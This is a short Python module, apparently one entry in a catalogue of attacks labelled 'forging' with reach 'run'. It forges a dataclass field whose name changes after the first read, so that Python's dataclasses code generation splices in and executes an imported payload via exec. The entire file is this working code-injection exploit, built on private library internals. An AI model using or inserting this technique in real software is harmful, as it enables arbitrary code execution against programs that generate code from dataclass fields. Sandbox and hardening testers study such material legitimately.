"""A field of a base says something else later."""
CATEGORY = "forging"
REACH = "run"
SILENT = "What is no name does not become part of the text."

import dataclasses

from . import payload


class Field(dataclasses.Field):
    asked = 0

    @property
    def name(self):
        self.asked += 1
        return ("value" if self.asked < 2
                else f"value: exec({payload.SOURCE!r}), rest")

    @name.setter
    def name(self, name):
        pass


@dataclasses.dataclass
class Base:
    value: int = dataclasses.field(init=False, repr=False, compare=False)


def attack():
    field = Field(dataclasses.MISSING, dataclasses.MISSING, False, False,
                  False, False, None, False)
    field.type = int
    field._field_type = dataclasses._FIELD
    Base.__dataclass_fields__["value"] = field
